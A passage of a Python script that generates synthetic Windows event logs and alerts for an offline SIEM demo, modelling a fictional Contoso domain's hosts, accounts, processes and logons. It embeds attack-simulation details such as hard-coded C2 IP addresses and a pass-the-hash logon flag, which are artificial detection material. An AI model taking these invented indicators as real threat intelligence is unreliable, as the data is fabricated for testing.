"""Build siemcrew's sample Windows event data and alerts for the offline demo and the tests.

Why a script and not hand-written files: the six scenarios only mean something inside a week of
believable background (prevalence across hosts and days, logons that chain hosts together,
process GUIDs and logon ids that link up). Writing that by hand would be neither consistent
nor reviewable; this script is the single source of truth and the data files are its output.

Regenerate (deterministic: fixed seed, no network, no wall clock; the output is byte-identical
on every run)::

    python examples/build_samples.py            # writes next to this file
    python examples/build_samples.py --out DIR  # writes somewhere else (the tests do this)

It writes ``events/background.ndjson``, one ``events/<scenario>.ndjson`` per scenario,
``events/ecs/monitoring_agent_ecs.ndjson`` (the monitoring agent's events of three hosts as
ECS-nested JSON, an "export from another SIEM"), ``alerts/<alert id>.json`` and ``expected.json``
(the machine-readable ground truth). ``README.md`` explains the scenarios in prose.

Raw events have the shape of the OTRF recordings (NXLog ``im_msvistalog`` flat JSON: ``Hostname``
FQDN, ``Channel``, ``EventID`` int, ``@timestamp`` UTC with Z, Sysmon/Security/System/PowerShell
fields at top level, collector ``host``), minus the rendered ``Message`` text to keep the files small.
"""

from __future__ import annotations

import argparse
import base64
import hashlib
import html
import json
import random
import uuid
from collections.abc import Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

SEED = 20261116
START = datetime(2026, 11, 16, tzinfo=UTC)
DAYS = 7
END = START + timedelta(days=DAYS)
LOCAL_OFFSET = timedelta(hours=-5)  # the collector's local time (EventTime), like OTRF's UTC-4
COLLECTOR = "wec.contoso.local"
DOMAIN = "CONTOSO"
DNS_DOMAIN = "contoso.local"
DOMAIN_SID = "S-1-5-21-3105738219-1843627790-2851462154"
NAMESPACE = uuid.UUID("6f0c1f2e-3a4b-4c5d-8e9f-0a1b2c3d4e5f")  # for stable rule ids

SYSMON = "Microsoft-Windows-Sysmon/Operational"
SECURITY = "Security"
SYSTEM = "System"
POWERSHELL = "Microsoft-Windows-PowerShell/Operational"

PS = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
SYSTEM32_DIR = "C:\\Windows\\system32\\"  # the working directory of services and most system processes
CMD = r"C:\Windows\System32\cmd.exe"
RUNDLL32 = r"C:\Windows\System32\rundll32.exe"
MONITOR_CMD = (
    r"powershell.exe -NoProfile -NonInteractive -ExecutionPolicy Bypass -File "
    r'"C:\Program Files\ContosoMonitor\scripts\collect_inventory.ps1"'
)
MONITOR_ECS_HOSTS = ("WS-SALES-03", "WS-MKT-02", "SRV-SQL01")
RUNS_PER_DAY = 3  # the monitoring agent's collection schedule: every 8 hours
MONITOR_ALERT_DAY = 5  # demo-5 fires on 11-21, after five days of the same runs on every host

# Rare external infrastructure: each one is seen from the attacked hosts only.
C2_S1 = "185.220.101.47"
C2_S2 = "91.215.85.142"
C2_S3 = "194.165.16.77"
NAS_IP = "10.0.5.20"

# Common destinations that every workstation talks to (the "handful" the background uses).
COMMON_DESTS = {
    "outlook": ("52.97.146.162", "outlook.office365.com"),
    "bing": ("13.107.21.200", "www.bing.com"),
    "google": ("142.250.72.78", "www.google.com"),
    "so": ("151.101.65.69", "stackoverflow.com"),
    "github": ("140.82.112.3", "github.com"),
    "defender": ("20.42.65.92", "wdcp.microsoft.com"),
}

PORT_NAMES = {53: "domain", 80: "http", 135: "epmap", 443: "https", 445: "microsoft-ds", 3389: "ms-wbt-server"}
SOURCE_NAMES = {
    SYSMON: "Microsoft-Windows-Sysmon",
    SECURITY: "Microsoft-Windows-Security-Auditing",
    POWERSHELL: "Microsoft-Windows-PowerShell",
}
INTEGRITY_LABELS = {"Medium": "S-1-16-8192", "High": "S-1-16-12288", "System": "S-1-16-16384"}
ADMIN_PRIVILEGES = "\r\n\t\t\t".join(
    [
        "SeSecurityPrivilege",
        "SeBackupPrivilege",
        "SeRestorePrivilege",
        "SeTakeOwnershipPrivilege",
        "SeDebugPrivilege",
        "SeSystemEnvironmentPrivilege",
        "SeLoadDriverPrivilege",
        "SeImpersonatePrivilege",
        "SeDelegateSessionUserImpersonatePrivilege",
    ]
)
BACKUP_PRIVILEGES = "SeBackupPrivilege\r\n\t\t\tSeRestorePrivilege"

# --------------------------------------------------------------------------------------------
# Binaries: one metadata row per executable; hashes are derived from path and OS build so they
# are stable per binary and differ between the workstation and server builds of Windows.
# --------------------------------------------------------------------------------------------

WIN = ("Microsoft Corporation", "Microsoft\u00ae Windows\u00ae Operating System")
OFFICE_VERSION = "16.0.17928.20156"
BINARIES: dict[str, tuple[str, str, str, str, str]] = {
    # path: (Description, Product, Company, FileVersion ("" = Windows build), OriginalFileName)
    r"C:\Windows\System32\userinit.exe": ("Userinit Logon Application", WIN[1], WIN[0], "", "USERINIT.EXE"),
    r"C:\Windows\explorer.exe": ("Windows Explorer", WIN[1], WIN[0], "", "EXPLORER.EXE"),
    PS: ("Windows PowerShell", WIN[1], WIN[0], "", "PowerShell.EXE"),
    CMD: ("Windows Command Processor", WIN[1], WIN[0], "", "Cmd.Exe"),
    RUNDLL32: ("Windows host process (Rundll32)", WIN[1], WIN[0], "", "RUNDLL32.EXE"),
    r"C:\Windows\System32\mshta.exe": (
        "Microsoft (R) HTML Application host",
        "Internet Explorer",
        WIN[0],
        "11.00.19041.1 (WinBuild.160101.0800)",
        "MSHTA.EXE",
    ),
    r"C:\Windows\System32\wbem\WMIC.exe": ("WMI Commandline Utility", WIN[1], WIN[0], "", "wmic.exe"),
    r"C:\Windows\System32\wbem\WmiPrvSE.exe": ("WMI Provider Host", WIN[1], WIN[0], "", "Wmiprvse.exe"),
    r"C:\Windows\System32\ntdsutil.exe": ("NT5DS", WIN[1], WIN[0], "", "ntdsutil.exe"),
    r"C:\Windows\System32\whoami.exe": (
        "whoami - displays logged on user information",
        WIN[1],
        WIN[0],
        "",
        "whoami.exe",
    ),
    r"C:\Windows\System32\net.exe": ("Net Command", WIN[1], WIN[0], "", "net.exe"),
    r"C:\Windows\System32\net1.exe": ("Net Command", WIN[1], WIN[0], "", "net1.exe"),
    r"C:\Windows\System32\fodhelper.exe": ("Features On Demand Helper", WIN[1], WIN[0], "", "FodHelper.EXE"),
    r"C:\Windows\System32\WScript.exe": (
        "Microsoft \u00ae Windows Based Script Host",
        "Microsoft \u00ae Windows Script Host",
        WIN[0],
        "5.812.10240.16384",
        "wscript.exe",
    ),
    r"C:\Windows\System32\svchost.exe": ("Host Process for Windows Services", WIN[1], WIN[0], "", "svchost.exe"),
    r"C:\Windows\System32\msiexec.exe": (
        "Windows\u00ae installer",
        "Windows Installer - Unicode",
        WIN[0],
        "5.0.19041.1 (WinBuild.160101.0800)",
        "msiexec.exe",
    ),
    r"C:\Windows\System32\WerFault.exe": ("Windows Problem Reporting", WIN[1], WIN[0], "", "WerFault.exe"),
    r"C:\Windows\System32\inetsrv\w3wp.exe": (
        "IIS Worker Process",
        "Internet Information Services",
        WIN[0],
        "",
        "w3wp.exe",
    ),
    r"C:\Windows\System32\inetsrv\InetMgr.exe": (
        "IIS Manager",
        "Internet Information Services",
        WIN[0],
        "",
        "InetMgr.exe",
    ),
    r"C:\Windows\System32\taskhostw.exe": ("Host Process for Windows Tasks", WIN[1], WIN[0], "", "taskhostw.exe"),
    r"C:\Windows\System32\backgroundTaskHost.exe": (
        "Background Task Host",
        WIN[1],
        WIN[0],
        "",
        "backgroundTaskHost.exe",
    ),
    r"C:\Windows\System32\SearchProtocolHost.exe": (
        "Microsoft Windows Search Protocol Host",
        "Windows\u00ae Search",
        WIN[0],
        "",
        "SearchProtocolHost.exe",
    ),
    r"C:\Windows\System32\mstsc.exe": ("Remote Desktop Connection", WIN[1], WIN[0], "", "mstsc.exe"),
    r"C:\Windows\System32\rdpclip.exe": ("RDP Clipboard Monitor", WIN[1], WIN[0], "", "rdpclip.exe"),
    r"C:\Windows\System32\mmc.exe": ("Microsoft Management Console", WIN[1], WIN[0], "", "MMC.EXE"),
    r"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24090.11-0\MpCmdRun.exe": (
        "Microsoft Malware Protection Command Line Utility",
        WIN[1],
        WIN[0],
        "4.18.24090.11 (WinBuild.160101.0800)",
        "MpCmdRun.exe",
    ),
    r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE": (
        "Microsoft Outlook",
        "Microsoft Outlook",
        WIN[0],
        OFFICE_VERSION,
        "Outlook.exe",
    ),
    r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE": (
        "Microsoft Word",
        "Microsoft Office",
        WIN[0],
        OFFICE_VERSION,
        "WinWord.exe",
    ),
    r"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE": (
        "Microsoft Excel",
        "Microsoft Office",
        WIN[0],
        OFFICE_VERSION,
        "Excel.exe",
    ),
    r"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe": (
        "Microsoft Edge",
        "Microsoft Edge",
        WIN[0],
        "131.0.2903.51",
        "msedge.exe",
    ),
    r"C:\Program Files (x86)\Microsoft\EdgeUpdate\MicrosoftEdgeUpdate.exe": (
        "Microsoft Edge Update",
        "Microsoft Edge Update",
        WIN[0],
        "1.3.195.31",
        "MicrosoftEdgeUpdate.exe",
    ),
    r"C:\Program Files\Google\Chrome\Application\chrome.exe": (
        "Google Chrome",
        "Google Chrome",
        "Google LLC",
        "131.0.6778.86",
        "chrome.exe",
    ),
    r"C:\Program Files\WindowsApps\MSTeams_24295.605.3225.8804_x64__8wekyb3d8bbwe\ms-teams.exe": (
        "Microsoft Teams",
        "Microsoft Teams",
        WIN[0],
        "24295.605.3225.8804",
        "ms-teams.exe",
    ),
    r"C:\Program Files\Microsoft OneDrive\OneDrive.exe": (
        "Microsoft OneDrive",
        "Microsoft OneDrive",
        WIN[0],
        "24.211.1020.0001",
        "OneDrive.exe",
    ),
    r"C:\Program Files\Microsoft VS Code\Code.exe": (
        "Visual Studio Code",
        "Visual Studio Code",
        WIN[0],
        "1.95.3",
        "electron.exe",
    ),
    r"C:\Program Files\Git\cmd\git.exe": (
        "Git for Windows",
        "Git",
        "The Git Development Community",
        "2.47.0.2",
        "git.exe",
    ),
    r"C:\Program Files (x86)\Microsoft SQL Server Management Studio 20\Common7\IDE\Ssms.exe": (
        "SSMS 20",
        "Microsoft SQL Server Management Studio",
        WIN[0],
        "20.2.30.0",
        "Ssms.exe",
    ),
    r"C:\Program Files\ContosoMonitor\cmagent.exe": (
        "Contoso Monitoring Agent",
        "ContosoMonitor",
        "Contoso Ltd.",
        "4.2.1.0",
        "cmagent.exe",
    ),
    r"C:\Program Files\ContosoBackup\cbagent.exe": (
        "Contoso Backup Agent",
        "ContosoBackup",
        "Contoso Ltd.",
        "7.1.0.2210",
        "cbagent.exe",
    ),
    r"C:\Program Files\ContosoDeploy\cdeploy.exe": (
        "Contoso Deploy Console",
        "ContosoDeploy",
        "Contoso Ltd.",
        "3.8.4.0",
        "cdeploy.exe",
    ),
    r"C:\Windows\ContosoDeployRunner\runner.exe": (
        "Contoso Deploy Runner",
        "ContosoDeploy",
        "Contoso Ltd.",
        "3.8.4.0",
        "runner.exe",
    ),
    r"C:\Tools\Sysinternals\procdump64.exe": (
        "Sysinternals process dump utility",
        "ProcDump",
        "Sysinternals - www.sysinternals.com",
        "11.0",
        "procdump",
    ),
}


def lookup_binary(path: str) -> tuple[str, str, str, str, str]:
    for known, meta in BINARIES.items():
        if known.lower() == path.lower():
            return meta
    raise KeyError(f"no metadata for binary {path}")


def binary_hashes(path: str, build: str) -> str:
    """Sysmon's Hashes string; Windows binaries differ per OS build, third-party ones do not."""
    _, _, company, version, _ = lookup_binary(path)
    key = path.lower() + ("|" + build if company == WIN[0] and not version else "")
    digest = {
        name: hashlib.new(name, ("bin:" + key).encode()).hexdigest().upper() for name in ("sha1", "md5", "sha256")
    }
    imphash = hashlib.md5(("imp:" + key).encode()).hexdigest().upper()
    return f"SHA1={digest['sha1']},MD5={digest['md5']},SHA256={digest['sha256']},IMPHASH={imphash}"


def sha256_of_hashes(hashes: str) -> str:
    return dict(part.split("=", 1) for part in hashes.split(","))["SHA256"]


# --------------------------------------------------------------------------------------------
# The organisation
# --------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Account:
    name: str
    domain: str
    sid: str
    kind: str = "user"  # user | admin | service | machine | system

    @property
    def qualified(self) -> str:
        return f"{self.domain}\\{self.name}"


SYSTEM_ACCOUNT = Account("SYSTEM", "NT AUTHORITY", "S-1-5-18", "system")
NETWORK_SERVICE = Account("NETWORK SERVICE", "NT AUTHORITY", "S-1-5-20", "system")
APPPOOL = Account(
    "ContosoPortal", "IIS APPPOOL", "S-1-5-82-1036420768-1044797643-1061213386-2937092688-4282445334", "system"
)

WORKSTATIONS: dict[str, str] = {
    # host: its one regular user
    "WS-FIN-01": "lgarcia",
    "WS-FIN-03": "bchen",
    "WS-FIN-05": "owilliams",
    "WS-FIN-07": "jdoe",
    "WS-FIN-09": "dkim",
    "WS-HR-01": "emartin",
    "WS-HR-02": "asmith",
    "WS-HR-04": "fjohnson",
    "WS-ENG-02": "hlopez",
    "WS-ENG-04": "rpatel",
    "WS-ENG-08": "sbrown",
    "WS-ENG-11": "mlee",
    "WS-ENG-15": "ktaylor",
    "WS-ENG-17": "nwhite",
    "WS-SALES-01": "pclark",
    "WS-SALES-03": "jlewis",
    "WS-SALES-05": "mwalker",
    "WS-SALES-08": "ahall",
    "WS-MKT-02": "tyoung",
    "WS-MKT-06": "cking",
    "WS-LEG-01": "rwright",
    "WS-LEG-03": "gscott",
    "WS-IT-01": "kwilson",
    "WS-IT-03": "tnguyen",
    "WS-OPS-05": "vadams",
}
DEPT_SUBNETS = {"IT": 10, "FIN": 20, "HR": 30, "ENG": 40, "SALES": 50, "MKT": 60, "LEG": 70, "OPS": 80}
SERVERS: dict[str, tuple[str, str]] = {
    "DC01": ("10.0.1.10", "domain controller"),
    "SRV-FS01": ("10.0.1.11", "file server"),
    "SRV-APP02": ("10.0.1.12", "application server (IIS)"),
    "SRV-SQL01": ("10.0.1.13", "database server"),
    "SRV-DEPLOY01": ("10.0.1.20", "software deployment server"),
    "JUMP-01": ("10.0.1.30", "admin jump host"),
}
PROCDUMP_DAYS = (0, 1, 3)  # adm_tnguyen dumps the crashing IIS worker on the 16th, 17th and 19th
TIERS = {"DC01": 0}  # asset tiers: 0 = identity infrastructure, 1 = servers, 2 = workstations
BACKED_UP = ("DC01", "SRV-FS01", "SRV-APP02", "SRV-SQL01")
DEPLOY_TARGETS = [
    h
    for h in WORKSTATIONS
    if h not in ("WS-IT-01", "WS-IT-03", "WS-ENG-15", "WS-LEG-03", "WS-MKT-06", "WS-OPS-05", "WS-SALES-08")
]
DEPLOY_RUNNER = r"C:\Windows\ContosoDeployRunner\runner.exe"
# The deployment tool's windows: (start, package on \\SRV-DEPLOY01\packages, the file it installs).
# The alert is raised in the second one, five days after the first pushed the same runner everywhere.
DEPLOY_WINDOWS = (
    (datetime(2026, 11, 16, 2, 0, 9, tzinfo=UTC), "npp-8.7.1-x64.msi", r"C:\Program Files\Notepad++\notepad++.exe"),
    (datetime(2026, 11, 21, 2, 0, 12, tzinfo=UTC), "7zip-24.08.msi", r"C:\Program Files\7-Zip\7z.exe"),
)


@dataclass
class Host:
    name: str
    ip: str
    role: str
    build: str
    guid_prefix: str
    guid_suffix: str
    boot: datetime
    user: Account | None = None
    procs: dict[str, Proc] = field(default_factory=dict)  # boot-time processes by short name
    used_pids: set[int] = field(default_factory=set)
    used_logons: set[int] = field(default_factory=set)
    proc_counter: int = 0x100
    logon_base: int = 0x40000

    @property
    def fqdn(self) -> str:
        return f"{self.name}.{DNS_DOMAIN}"

    @property
    def is_server(self) -> bool:
        return not self.name.startswith("WS-")

    @property
    def machine(self) -> Account:
        return Account(self.name + "$", DOMAIN, f"{DOMAIN_SID}-{1600 + sum(map(ord, self.name))}", "machine")


@dataclass
class Logon:
    host: Host
    account: Account
    logon_id: int
    sysmon_guid: str
    session_id: int
    logon_type: str


@dataclass
class Proc:
    host: Host
    guid: str
    pid: int
    image: str
    cmd: str
    logon: Logon
    integrity: str
    cwd: str
    parent: Proc | None
    event: dict[str, Any] | None = None  # the Sysmon 1 event, when it is inside the window


@dataclass
class Emitted:
    at: datetime
    seq: int
    bucket: str
    data: dict[str, Any]


def iso_z(moment: datetime) -> str:
    return moment.astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%S.%f")[:-3] + "Z"


def utc_time(moment: datetime) -> str:
    return moment.astimezone(UTC).strftime("%Y-%m-%d %H:%M:%S.%f")[:-3]


def local_time(moment: datetime) -> str:
    return (moment + LOCAL_OFFSET).strftime("%Y-%m-%d %H:%M:%S")


def ps_encode(script: str) -> str:
    return base64.b64encode(script.encode("utf-16-le")).decode("ascii")


def short_name(image: str) -> str:
    return image.rsplit("\\", 1)[-1]


# --------------------------------------------------------------------------------------------
# The event writer: one method per Windows event type; each links what it must link.
# --------------------------------------------------------------------------------------------


class World:
    """The org's hosts and accounts plus an ordered log of emitted raw events."""

    def __init__(self, seed: int = SEED) -> None:
        self.rng = random.Random(seed)
        self.events: list[Emitted] = []
        self.bucket = "background"
        self.accounts: dict[str, Account] = {}
        self.hosts: dict[str, Host] = {}
        self.workdays: dict[tuple[str, int], dict[str, Proc]] = {}  # (host, day) -> the user's shell and apps
        self._build_org()

    # -- org ---------------------------------------------------------------------------------

    def account(self, name: str, kind: str = "user") -> Account:
        if name not in self.accounts:
            rid = 1104 + len(self.accounts)
            self.accounts[name] = Account(name, DOMAIN, f"{DOMAIN_SID}-{rid}", kind)
        return self.accounts[name]

    def _build_org(self) -> None:
        for name in ("adm_kwilson", "adm_tnguyen"):
            self.account(name, "admin")
        for name in ("svc_backup", "svc_monitor", "svc_deploy"):
            self.account(name, "service")
        for name, user in WORKSTATIONS.items():
            dept, number = name.split("-")[1], int(name.split("-")[2])
            host = self._new_host(name, f"10.10.{DEPT_SUBNETS[dept]}.{100 + number}", f"{dept} workstation", "19041")
            host.user = self.account(user)
        for name, (ip, role) in SERVERS.items():
            self._new_host(name, ip, role, "20348")
        for host in self.hosts.values():
            self._boot(host)

    def _new_host(self, name: str, ip: str, role: str, build: str) -> Host:
        boot = START - timedelta(days=self.rng.randint(2, 6), seconds=self.rng.randint(0, 86_000))
        host = Host(
            name=name,
            ip=ip,
            role=role,
            build=build,
            guid_prefix=f"{self.rng.getrandbits(32):08x}",
            guid_suffix="000000000700" if build == "20348" else "000000000600",
            boot=boot,
            logon_base=self.rng.randrange(0x20000, 0x900000),
        )
        self.hosts[name] = host
        return host

    def _boot(self, host: Host) -> None:
        """Processes that started at boot, before the window: referenced as parents, never logged."""
        system = Logon(host, SYSTEM_ACCOUNT, 0x3E7, self.sysmon_logon_guid(host, host.boot, 0x3E7), 0, "0")
        host.used_logons.add(0x3E7)

        def boot_proc(
            key: str, image: str, cmd: str, parent: Proc | None, pid: int | None = None, after: int = 5
        ) -> Proc:
            proc = self.existing(host, host.boot + timedelta(seconds=after), image, cmd, parent, system, "System", pid)
            host.procs[key] = proc
            return proc

        sys_proc = boot_proc("system", "System", "", None, pid=4, after=0)
        boot_proc("winlogon", r"C:\Windows\System32\winlogon.exe", "winlogon.exe", sys_proc, after=9)
        services = boot_proc(
            "services", r"C:\Windows\System32\services.exe", r"C:\Windows\system32\services.exe", sys_proc, after=10
        )
        boot_proc("lsass", r"C:\Windows\System32\lsass.exe", r"C:\Windows\system32\lsass.exe", sys_proc, after=10)
        svc = r"C:\Windows\System32\svchost.exe"
        boot_proc("dcomlaunch", svc, r"C:\Windows\system32\svchost.exe -k DcomLaunch -p", services, after=12)
        boot_proc("rpcss", svc, r"C:\Windows\system32\svchost.exe -k RPCSS -p", services, after=12)
        boot_proc("schedule", svc, r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule", services, after=14)
        boot_proc(
            "termservice", svc, r"C:\Windows\System32\svchost.exe -k NetworkService -s TermService", services, after=15
        )
        boot_proc(
            "dnscache", svc, r"C:\Windows\system32\svchost.exe -k NetworkService -p -s Dnscache", services, after=15
        )
        boot_proc(
            "cmagent",
            r"C:\Program Files\ContosoMonitor\cmagent.exe",
            r'"C:\Program Files\ContosoMonitor\cmagent.exe" --service',
            services,
            after=40,
        )
        if host.name == "SRV-APP02":
            boot_proc("was", svc, r"C:\Windows\system32\svchost.exe -k iissvcs", services, after=30)

    def existing(
        self,
        host: Host,
        at: datetime,
        image: str,
        cmd: str,
        parent: Proc | None,
        logon: Logon,
        integrity: str,
        pid: int | None = None,
    ) -> Proc:
        """A process that started before the window: it is referenced as a parent but never logged."""
        return Proc(
            host,
            self._process_guid(host, at),
            pid or self._pid(host),
            image,
            cmd,
            logon,
            integrity,
            SYSTEM32_DIR,
            parent,
        )

    # -- identifiers -------------------------------------------------------------------------

    def _pid(self, host: Host) -> int:
        while True:
            pid = self.rng.randrange(400, 16_000, 4)
            if pid not in host.used_pids:
                host.used_pids.add(pid)
                return pid

    def _process_guid(self, host: Host, at: datetime) -> str:
        """Sysmon's layout: machine part, creation time (low, high 16 bits), counter, token part."""
        seconds = int(at.timestamp())
        host.proc_counter += 1
        counter = host.proc_counter.to_bytes(2, "little").hex()
        return f"{{{host.guid_prefix}-{seconds & 0xFFFF:04x}-{seconds >> 16:04x}-{counter}-{host.guid_suffix}}}"

    @staticmethod
    def sysmon_logon_guid(host: Host, at: datetime, logon_id: int) -> str:
        seconds = int(at.timestamp())
        raw = logon_id.to_bytes(8, "little").hex()
        return f"{{{host.guid_prefix}-{seconds & 0xFFFF:04x}-{seconds >> 16:04x}-{raw[:4]}-{raw[4:]}}}"

    def _logon_id(self, host: Host, at: datetime) -> int:
        """Monotonic in time per host, like LSA's counter."""
        candidate = host.logon_base + int((at - START).total_seconds()) * 16 + self.rng.randrange(16)
        while candidate in host.used_logons:
            candidate += 1
        host.used_logons.add(candidate)
        return candidate

    def system_logon(self, host: Host) -> Logon:
        return host.procs["services"].logon

    # -- the envelope ------------------------------------------------------------------------

    def _emit(
        self,
        host: Host,
        at: datetime,
        channel: str,
        event_id: int,
        fields: dict[str, Any],
        source_name: str | None = None,
        event_type: str | None = None,
    ) -> dict[str, Any]:
        """The NXLog envelope, trimmed to what investigations read (no rendered Message, no
        ProviderGuid/Severity/SourceModule* bookkeeping) so that a week of data stays small."""
        lag = timedelta(milliseconds=self.rng.randint(300, 2500))
        if event_type is None:
            event_type = "AUDIT_SUCCESS" if channel == SECURITY else "INFO"
        data: dict[str, Any] = {
            "@timestamp": iso_z(at + lag),
            "EventTime": local_time(at),
            "Hostname": host.fqdn,
            "host": COLLECTOR,
            "Channel": channel,
            "SourceName": source_name or SOURCE_NAMES[channel],
            "EventID": event_id,
            "EventType": event_type,
            "RecordNumber": 0,
        }
        if channel == SYSMON:
            # NXLog's AccountName/Domain name Sysmon's own service account, not the process user (kept: a real trap).
            data.update({"AccountName": "SYSTEM", "Domain": "NT AUTHORITY", "RuleName": "-", "UtcTime": utc_time(at)})
        data.update(fields)
        self.events.append(Emitted(at, len(self.events), self.bucket, data))
        return data

    # -- processes ---------------------------------------------------------------------------

    def spawn(
        self,
        parent: Proc,
        at: datetime,
        image: str,
        cmd: str,
        *,
        logon: Logon | None = None,
        integrity: str | None = None,
        cwd: str | None = None,
    ) -> Proc:
        """A process start: Sysmon 1 and Security 4688 (process auditing with command lines is on everywhere)."""
        host = parent.host
        logon = logon or parent.logon
        integrity = integrity or parent.integrity
        cwd = cwd or parent.cwd
        proc = Proc(host, self._process_guid(host, at), self._pid(host), image, cmd, logon, integrity, cwd, parent)
        description, product, company, version, original = lookup_binary(image)
        version = version or f"10.0.{host.build}.1 (WinBuild.160101.0800)"
        proc.event = self._emit(
            host,
            at,
            SYSMON,
            1,
            {
                "ProcessGuid": proc.guid,
                "ProcessId": str(proc.pid),
                "Image": image,
                "FileVersion": version,
                "Description": description,
                "Product": product,
                "Company": company,
                "OriginalFileName": original,
                "CommandLine": cmd,
                "CurrentDirectory": cwd,
                "User": logon.account.qualified,
                "LogonGuid": logon.sysmon_guid,
                "LogonId": hex(logon.logon_id),
                "TerminalSessionId": str(logon.session_id),
                "IntegrityLevel": integrity,
                "Hashes": binary_hashes(image, host.build),
                "ParentProcessGuid": parent.guid,
                "ParentProcessId": str(parent.pid),
                "ParentImage": parent.image,
                "ParentCommandLine": parent.cmd,
                "ParentUser": parent.logon.account.qualified,
            },
        )
        subject_sid, subject_name, subject_domain, subject_logon = self.subject(host, logon)
        elevation = "%%1936" if integrity == "System" else ("%%1937" if integrity == "High" else "%%1938")
        self._emit(
            host,
            at + timedelta(milliseconds=self.rng.randint(1, 40)),
            SECURITY,
            4688,
            {
                "SubjectUserSid": subject_sid,
                "SubjectUserName": subject_name,
                "SubjectDomainName": subject_domain,
                "SubjectLogonId": subject_logon,
                "NewProcessId": hex(proc.pid),
                "NewProcessName": image,
                "TokenElevationType": elevation,
                "ProcessId": hex(parent.pid),
                "CommandLine": cmd,
                "TargetUserSid": "S-1-0-0",
                "TargetUserName": "-",
                "TargetDomainName": "-",
                "TargetLogonId": "0x0",
                "ParentProcessName": parent.image,
                "MandatoryLabel": INTEGRITY_LABELS[integrity],
            },
        )
        return proc

    @staticmethod
    def subject(host: Host, logon: Logon) -> tuple[str, str, str, str]:
        """Security's Subject fields: SYSTEM-like identities show up as the machine account."""
        if logon.account.kind == "system":
            return "S-1-5-18", host.machine.name, DOMAIN, "0x3e7"
        return logon.account.sid, logon.account.name, logon.account.domain, hex(logon.logon_id)

    # -- logons ------------------------------------------------------------------------------

    def logon(
        self,
        host: Host,
        at: datetime,
        account: Account,
        logon_type: str,
        *,
        source: Host | None = None,
        ntlm: bool = False,
        pass_the_hash: bool = False,
        session_id: int = 0,
    ) -> Logon:
        """Security 4624 (and 4672 when the account gets admin-equivalent privileges)."""
        logon_id = self._logon_id(host, at)
        logon = Logon(host, account, logon_id, self.sysmon_logon_guid(host, at, logon_id), session_id, logon_type)
        network = logon_type == "3"
        fields: dict[str, Any] = {
            "SubjectUserSid": "S-1-0-0" if network else "S-1-5-18",
            "SubjectUserName": "-" if network else host.machine.name,
            "SubjectDomainName": "-" if network else DOMAIN,
            "SubjectLogonId": "0x0" if network else "0x3e7",
            "TargetUserSid": account.sid,
            "TargetUserName": account.name,
            "TargetDomainName": (DNS_DOMAIN.upper() if network and not ntlm else DOMAIN),
            "TargetLogonId": hex(logon_id),
            "LogonType": logon_type,
        }
        if network and ntlm:
            fields.update(
                {
                    "LogonProcessName": "NtLmSsp ",
                    "AuthenticationPackageName": "NTLM",
                    "WorkstationName": source.name if source else "-",
                    "LogonGuid": "{00000000-0000-0000-0000-000000000000}",
                    "LmPackageName": "NTLM V2",
                    "KeyLength": "0" if pass_the_hash else "128",
                    "ProcessId": "0x0",
                    "ProcessName": "-",
                }
            )
        elif network:
            fields.update(
                {
                    "LogonProcessName": "Kerberos",
                    "AuthenticationPackageName": "Kerberos",
                    "WorkstationName": "-",
                    "LogonGuid": "{" + str(uuid.UUID(int=self.rng.getrandbits(128))) + "}",
                    "LmPackageName": "-",
                    "KeyLength": "0",
                    "ProcessId": "0x0",
                    "ProcessName": "-",
                }
            )
        elif logon_type in ("4", "5"):
            owner = host.procs["schedule"] if logon_type == "4" else host.procs["services"]
            fields.update(
                {
                    "LogonProcessName": "Advapi  ",
                    "AuthenticationPackageName": "Negotiate",
                    "WorkstationName": "-",
                    "LogonGuid": "{00000000-0000-0000-0000-000000000000}",
                    "LmPackageName": "-",
                    "KeyLength": "0",
                    "ProcessId": hex(owner.pid),
                    "ProcessName": owner.image,
                }
            )
        else:  # 2 interactive, 10 remote interactive
            fields.update(
                {
                    "LogonProcessName": "User32 ",
                    "AuthenticationPackageName": "Negotiate",
                    "WorkstationName": source.name if source else host.name,
                    "LogonGuid": "{" + str(uuid.UUID(int=self.rng.getrandbits(128))) + "}",
                    "LmPackageName": "-",
                    "KeyLength": "0",
                    "ProcessId": hex(host.procs["winlogon"].pid),
                    "ProcessName": host.procs["winlogon"].image,
                }
            )
        privileged = account.kind in ("admin", "service", "machine") or (account.name == "mlee" and host.name == "DC01")
        fields.update(
            {
                "IpAddress": source.ip if source else ("127.0.0.1" if logon_type in ("2", "10") else "-"),
                "IpPort": str(self.rng.randint(49_152, 65_000)) if source else "0",
                "ImpersonationLevel": "%%1833",
                "RestrictedAdminMode": "%%1843" if logon_type == "10" else "-",
                "TargetOutboundUserName": "-",
                "TargetOutboundDomainName": "-",
                "VirtualAccount": "%%1843",
                "TargetLinkedLogonId": "0x0",
                "ElevatedToken": "%%1842" if privileged else "%%1843",
                "TransmittedServices": "-",
            }
        )
        self._emit(host, at, SECURITY, 4624, fields)
        if privileged and account.kind != "machine":
            self._emit(
                host,
                at + timedelta(milliseconds=2),
                SECURITY,
                4672,
                {
                    "SubjectUserSid": account.sid,
                    "SubjectUserName": account.name,
                    "SubjectDomainName": DOMAIN,
                    "SubjectLogonId": hex(logon_id),
                    "PrivilegeList": BACKUP_PRIVILEGES if account.name == "svc_backup" else ADMIN_PRIVILEGES,
                },
            )
        return logon

    # -- other event types -------------------------------------------------------------------

    def connect(
        self, proc: Proc, at: datetime, dest_ip: str, dest_port: int, dest_name: str = "-", protocol: str = "tcp"
    ) -> None:
        """Sysmon 3 on the initiating host (Initiated true)."""
        self._network(
            proc,
            at,
            proc.host.ip,
            self.rng.randint(49_152, 65_000),
            proc.host.fqdn,
            dest_ip,
            dest_port,
            dest_name,
            "true",
            protocol,
        )

    def accept(self, proc: Proc, at: datetime, source: Host, port: int) -> None:
        """Sysmon 3 on the receiving host (Initiated false)."""
        self._network(
            proc,
            at,
            source.ip,
            self.rng.randint(49_152, 65_000),
            source.fqdn,
            proc.host.ip,
            port,
            proc.host.fqdn,
            "false",
            "tcp",
        )

    def _network(
        self,
        proc: Proc,
        at: datetime,
        src_ip: str,
